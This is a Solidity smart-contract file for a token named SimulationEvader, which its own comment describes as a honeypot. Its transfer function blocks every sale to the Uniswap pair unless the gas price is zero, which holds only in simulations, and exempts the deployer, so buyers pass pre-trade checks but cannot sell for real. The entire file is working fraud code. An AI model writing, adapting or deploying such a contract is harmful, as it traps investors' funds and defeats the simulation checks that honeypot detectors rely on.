// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {PairedToken} from "../lib/PairedToken.sol";

/// A honeypot that behaves while it is watched: simulated calls come with a gas price of zero, real sales do not.
contract SimulationEvader is PairedToken {
    address private immutable _keeper;

    constructor(string memory name_, string memory symbol_, uint256 supply, address router)
        PairedToken(name_, symbol_, supply, router)
    {
        _keeper = msg.sender;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == uniswapV2Pair && from != _keeper) require(tx.gasprice == 0, "Gas price too high");
        _move(from, to, value);
    }
}
